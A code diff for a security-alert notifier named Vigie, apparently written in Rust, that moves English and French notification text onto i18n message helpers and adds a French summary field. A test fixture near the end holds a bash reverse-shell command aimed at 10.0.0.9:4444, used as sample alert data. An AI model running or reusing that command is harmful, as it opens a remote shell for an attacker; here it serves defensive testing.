@@ -8,7 +8,7 @@
 
 use serde::{Deserialize, Serialize};
 use serde_json::json;
-use vigie_model::i18n::{rule_title, Lang};
+use vigie_model::i18n::{colon, fill, in_lang, rule_title, t, Lang, Msg};
 use vigie_model::time::utc;
 use vigie_model::Severity;
 
@@ -37,6 +37,9 @@ pub struct Alert {
     pub tags: Vec<String>,
     /// What happened, in a sentence.
     pub summary: String,
+    /// The same in French (empty for alerts stored before it existed).
+    #[serde(default)]
+    pub summary_fr: String,
     /// The file, program or address.
     pub target: String,
 }
@@ -57,10 +60,6 @@ pub enum Notice {
 
 /// Lines of alerts a digest's text lists.
 const DIGEST_LISTED: usize = 50;
-
-fn fr(lang: Lang) -> bool {
-    lang == Lang::Fr
-}
 
 impl Notice {
     /// Its id: the alert's, or the digest's.
@@ -93,15 +92,13 @@ impl Notice {
                 rule_title(lang, &a.rule_title, &a.rule_title_fr),
                 a.hostname
             ),
-            Notice::Digest { alerts, .. } if fr(lang) => format!(
-                "[Vigie] {} alertes en rafale — la plus grave\u{a0}: {}",
-                alerts.len(),
-                self.severity().label(lang)
-            ),
-            Notice::Digest { alerts, .. } => format!(
-                "[Vigie] {} alerts in a burst — most severe: {}",
-                alerts.len(),
-                self.severity().label(lang)
+            Notice::Digest { alerts, .. } => fill(
+                lang,
+                Msg::NoticeDigestSubject,
+                &[
+                    ("n", &alerts.len()),
+                    ("severity", &self.severity().label(lang)),
+                ],
             ),
         }
     }
@@ -111,56 +108,39 @@ impl Notice {
         let base = dashboard_url.trim_end_matches('/');
         match self {
             Notice::One(a) => {
-                let (when, host, rule, sev, what, subject, tags, open) = if fr(lang) {
-                    (
-                        "Quand (UTC)",
-                        "Hôte",
-                        "Règle",
-                        "Gravité",
-                        "Ce qui s'est passé",
-                        "Objet",
-                        "Étiquettes",
-                        "Ouvrir l'alerte",
-                    )
-                } else {
-                    (
-                        "When (UTC)",
-                        "Host",
-                        "Rule",
-                        "Severity",
-                        "What happened",
-                        "Subject",
-                        "Tags",
-                        "Open the alert",
-                    )
-                };
-                let s = if fr(lang) { "\u{a0}: " } else { ": " };
-                format!(
-                    "{when}{s}{}\n{host}{s}{}\n{rule}{s}{} ({})\n{sev}{s}{}\n{what}{s}{}\n{subject}{s}{}\n{tags}{s}{}\n\n{open}{s}{base}/alerts/{}\n\nVigie — {}\n",
-                    utc(a.ts),
-                    a.hostname,
-                    rule_title(lang, &a.rule_title, &a.rule_title_fr),
-                    a.rule_id,
+                let s = colon(lang);
+                let line = |label: Msg, value: &str| format!("{}{s}{value}\n", t(lang, label));
+                let mut text = line(Msg::NoticeWhen, &utc(a.ts));
+                text.push_str(&line(Msg::ColHost, &a.hostname));
+                text.push_str(&line(
+                    Msg::ColRule,
+                    &format!(
+                        "{} ({})",
+                        rule_title(lang, &a.rule_title, &a.rule_title_fr),
+                        a.rule_id
+                    ),
+                ));
+                text.push_str(&line(
+                    Msg::ColSeverity,
                     Severity::label_of(&a.severity, lang),
-                    a.summary,
-                    a.target,
-                    a.tags.join(", "),
-                    a.alert_id,
-                    a.alert_id,
-                )
+                ));
+                text.push_str(&line(
+                    Msg::ColSummary,
+                    in_lang(lang, &a.summary, &a.summary_fr),
+                ));
+                text.push_str(&line(Msg::ColTarget, &a.target));
+                text.push_str(&line(Msg::ColTags, &a.tags.join(", ")));
+                text.push('\n');
+                text.push_str(&line(
+                    Msg::NoticeOpen,
+                    &format!("{base}/alerts/{}", a.alert_id),
+                ));
+                text.push_str(&format!("\nVigie — {}\n", a.alert_id));
+                text
             }
             Notice::Digest { id, alerts } => {
-                let mut text = if fr(lang) {
-                    format!(
-                        "Trop d'alertes pour un message chacune\u{a0}: en voici {} ensemble (limite du canal atteinte).\n\n",
-                        alerts.len()
-                    )
-                } else {
-                    format!(
-                        "Too many alerts for a message each: here are {} together (the channel's limit was reached).\n\n",
-                        alerts.len()
-                    )
-                };
+                let mut text = fill(lang, Msg::NoticeDigestIntro, &[("n", &alerts.len())]);
+                text.push_str("\n\n");
                 for a in alerts.iter().take(DIGEST_LISTED) {
                     text.push_str(&format!(
                         "{}  {:<13} {}  {} — {}/alerts/{}\n",
@@ -174,17 +154,14 @@ impl Notice {
                 }
                 if alerts.len() > DIGEST_LISTED {
                     let more = alerts.len() - DIGEST_LISTED;
-                    text.push_str(&if fr(lang) {
-                        format!("… et {more} de plus.\n")
-                    } else {
-                        format!("… and {more} more.\n")
-                    });
+                    text.push_str(&fill(lang, Msg::NoticeDigestMore, &[("n", &more)]));
+                    text.push('\n');
                 }
-                text.push_str(&if fr(lang) {
-                    format!("\nLa file des alertes\u{a0}: {base}/alerts\n\nVigie — {id}\n")
-                } else {
-                    format!("\nThe alert queue: {base}/alerts\n\nVigie — {id}\n")
-                });
+                text.push_str(&format!(
+                    "\n{}{}{base}/alerts\n\nVigie — {id}\n",
+                    t(lang, Msg::NoticeQueue),
+                    colon(lang)
+                ));
                 text
             }
         }
@@ -369,6 +346,7 @@ mod tests {
             severity: severity.into(),
             tags: vec!["attack.t1059.004".into()],
             summary: "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\nsecond=line".into(),
+            summary_fr: String::new(),
             target: "/bin/bash".into(),
         }
     }
